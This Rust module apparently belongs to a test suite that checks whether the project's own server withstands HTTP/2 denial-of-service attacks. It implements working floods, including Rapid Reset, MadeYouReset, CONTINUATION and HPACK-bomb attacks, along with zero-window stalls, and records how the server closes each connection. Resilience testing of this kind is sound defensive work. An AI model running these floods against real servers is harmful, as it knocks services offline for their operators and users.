//! HTTP/2 attacks that are cheap for the peer and expensive for the server.

use std::{
    sync::Arc,
    time::{Duration, Instant},
};

use bytes::{Buf, BytesMut};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::tcp::ReadHalf,
    task::JoinSet,
    time::{interval, timeout},
};

use super::{
    Target,
    frames::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY, RST_STREAM,
        SETTINGS, WINDOW_UPDATE, fields, frame, indexed, opening,
    },
};

/// An HTTP/2 attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// Streams that the peer opens and resets immediately (CVE-2023-44487).
    RapidReset,
    /// Streams on which the peer provokes a reset by the server (CVE-2025-8671).
    MadeYouReset,
    /// A request head that never ends (CVE-2024-27316).
    Continuation,
    /// A request head that continues forever in empty frames.
    EmptyContinuation,
    /// SETTINGS frames, each of which the server must acknowledge.
    Settings,
    /// PING frames, each of which the server must answer.
    Ping,
    /// PRIORITY frames for streams that do not exist.
    Priority,
    /// `WINDOW_UPDATE` frames for the connection, one byte each.
    WindowUpdate,
    /// A request body of empty frames.
    EmptyData,
    /// A request body with one byte per frame.
    ByteData,
    /// A few bytes that expand to a large header list (CVE-2016-6581).
    Hpack,
    /// Requests with a receive window of zero, so the server cannot send the responses.
    ZeroWindow,
    /// Requests with a receive window of one byte.
    ByteWindow,
    /// Valid requests from a peer that ignores GOAWAY. They do no harm until the server tries to close the connection.
    Heedless,
}

/// The outcome of one connection.
#[derive(Debug, Clone, Copy)]
pub struct Flooded {
    /// Whether this was the first connection of its peer.
    pub is_first: bool,
    /// The time until the server closed the connection; `None` if it was still open at the end.
    pub life: Option<Duration>,
    /// The error code of the last GOAWAY.
    pub goaway: Option<u32>,
    /// The number of frames that the peer sent. A request and the frame that resets its stream count as one.
    pub frames: usize,
}

impl Flood {
    /// Every flood that a running server cuts off. Excludes `Heedless`, which matters only during a shutdown.
    pub const ALL: [Self; 13] = [
        Self::RapidReset,
        Self::MadeYouReset,
        Self::Continuation,
        Self::EmptyContinuation,
        Self::Settings,
        Self::Ping,
        Self::Priority,
        Self::WindowUpdate,
        Self::EmptyData,
        Self::ByteData,
        Self::Hpack,
        Self::ZeroWindow,
        Self::ByteWindow,
    ];

    /// Returns whether the server recognizes the attack and closes the connection with an error before any timeout.
    pub fn is_plain(self) -> bool {
        use Flood::{Continuation, EmptyContinuation, EmptyData, Hpack, MadeYouReset, RapidReset};
        matches!(self, RapidReset | MadeYouReset | Continuation | EmptyContinuation | EmptyData | Hpack)
    }

    /// Returns whether the peer sends its requests once and then waits, so that only the write timeout ends the
    /// connection.
    pub fn withholds_window(self) -> bool {
        matches!(self, Self::ZeroWindow | Self::ByteWindow)
    }
}

/// Floods the server on `many` connections for `time`, and reopens each connection that the server closes. Sends
/// `batch` frames per connection every 5 ms. A request and the frame that resets its stream count as one. Continues on
/// the first connections until the server has closed them, or `patience` has passed.
pub async fn flood(
    target: &Arc<Target>,
    flood: Flood,
    many: usize,
    batch: usize,
    time: Duration,
    patience: Duration,
) -> Vec<Flooded> {
    let (end, first_end) = (Instant::now() + time, Instant::now() + patience);
    let mut peers = JoinSet::new();
    for _ in 0..many {
        let target = target.clone();
        peers.spawn(async move {
            let mut all = vec![connection(&target, flood, batch, first_end).await];
            // Without this pause, reconnecting would itself be an attack.
            let pause = async || tokio::time::sleep(Duration::from_millis(50)).await;
            pause().await;
            while Instant::now() < end {
                let flooded = connection(&target, flood, batch, end).await;
                all.push(Flooded { is_first: false, ..flooded });
                pause().await;
            }
            all
        });
    }
    peers.join_all().await.into_iter().flatten().collect()
}

/// Floods one connection until the server closes it or `end` is reached.
pub(super) async fn connection(target: &Target, flood: Flood, batch: usize, end: Instant) -> Flooded {
    let mut sender = Sender { flood, authorization: target.authorization(), next: 1, frames: 0 };
    let mut goaway = None;
    let begun = Instant::now();
    let mut stream = target.connect().await;
    let (mut read, mut write) = stream.split();
    let sending = async {
        let mut pace = interval(Duration::from_millis(5));
        let mut bytes = sender.opening();
        while write.write_all_buf(&mut bytes).await.is_ok() {
            pace.tick().await;
            for _ in 0..batch {
                sender.more(&mut bytes);
            }
        }
        // A write error is ignored, because the reader notices the closed connection.
        std::future::pending::<()>().await;
    };
    let reading = read_frames(&mut read, &mut goaway);
    let over = timeout(end.saturating_duration_since(Instant::now()), async {
        tokio::select! {
            () = sending => {}
            () = reading => {}
        }
    });
    let life = over.await.ok().map(|()| begun.elapsed());
    Flooded { is_first: true, life, goaway, frames: sender.frames }
}

/// Reads frames until the server closes the connection.
async fn read_frames(stream: &mut ReadHalf<'_>, goaway: &mut Option<u32>) {
    let mut bytes = BytesMut::new();
    while matches!(stream.read_buf(&mut bytes).await, Ok(1..)) {
        while bytes.len() >= 9 {
            let length = usize::from(bytes[0]) << 16 | usize::from(bytes[1]) << 8 | usize::from(bytes[2]);
            if bytes.len() < 9 + length {
                break;
            }
            let frame_type = bytes[3];
            bytes.advance(9);
            let mut payload = bytes.split_to(length);
            if frame_type == GOAWAY {
                payload.advance(4);
                *goaway = Some(payload.get_u32());
            }
        }
    }
}

struct Sender {
    flood: Flood,
    authorization: String,
    next: u32,
    frames: usize,
}

impl Sender {
    fn opening(&self) -> BytesMut {
        let window = match self.flood {
            Flood::ZeroWindow => 0,
            Flood::ByteWindow => 1,
            _ => 65_535,
        };
        opening(&[(INITIAL_WINDOW_SIZE, window)])
    }

    /// Appends the next frames of the flood.
    fn more(&mut self, into: &mut BytesMut) {
        let (stream, first) = (self.next, self.next == 1);
        let before = into.len();
        match self.flood {
            Flood::RapidReset => {
                self.send_request(into, "GET", "/v1/clients");
                frame(into, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
            }
            Flood::MadeYouReset => {
                self.send_request(into, "POST", "/v1/leads");
                // Overflowing the stream's flow-control window is a stream error.
                frame(into, WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes());
            }
            Flood::Continuation | Flood::EmptyContinuation if first => {
                let block = self.head("GET", "/v1/clients");
                frame(into, HEADERS, END_STREAM, stream, &block);
                self.next += 2;
            }
            Flood::Continuation => frame(into, CONTINUATION, 0, 1, &fields([("x-more", "and more")])),
            Flood::EmptyContinuation => frame(into, CONTINUATION, 0, 1, &[]),
            Flood::Settings => frame(into, SETTINGS, 0, 0, &[]),
            Flood::Ping => frame(into, PING, 0, 0, &[0; 8]),
            Flood::Priority => frame(into, PRIORITY, 0, 1_001, &[0, 0, 0, 3, 16]),
            Flood::WindowUpdate => frame(into, WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
            Flood::EmptyData | Flood::ByteData if first => self.send_request(into, "POST", "/v1/leads"),
            Flood::EmptyData => frame(into, DATA, 0, 1, &[]),
            Flood::ByteData => frame(into, DATA, 0, 1, b" "),
            Flood::Hpack => {
                let mut block = self.head("GET", "/v1/clients");
                block.extend(indexed("x-large", &"y".repeat(3_900)));
                // Each byte refers to the newest entry of the dynamic table.
                block.extend(std::iter::repeat_n(0xbe, 10_000));
                frame(into, HEADERS, END_HEADERS | END_STREAM, stream, &block);
                self.next += 2;
            }
            Flood::Heedless => self.send_request(into, "GET", "/v1/clients"),
            // Opens the maximum number of concurrent streams.
            Flood::ZeroWindow | Flood::ByteWindow if stream < 200 => {
                self.send_request(into, "GET", "/v1/leads?limit=200");
            }
            Flood::ZeroWindow | Flood::ByteWindow => {}
        }
        self.frames += usize::from(into.len() > before);
    }

    fn send_request(&mut self, into: &mut BytesMut, method: &str, path: &str) {
        let end = if method == "GET" { END_STREAM } else { 0 };
        frame(into, HEADERS, END_HEADERS | end, self.next, &self.head(method, path));
        self.next += 2;
    }

    fn head(&self, method: &str, path: &str) -> Vec<u8> {
        fields([
            (":method", method),
            (":scheme", "http"),
            (":authority", "localhost"),
            (":path", path),
            ("authorization", &self.authorization),
        ])
    }
}
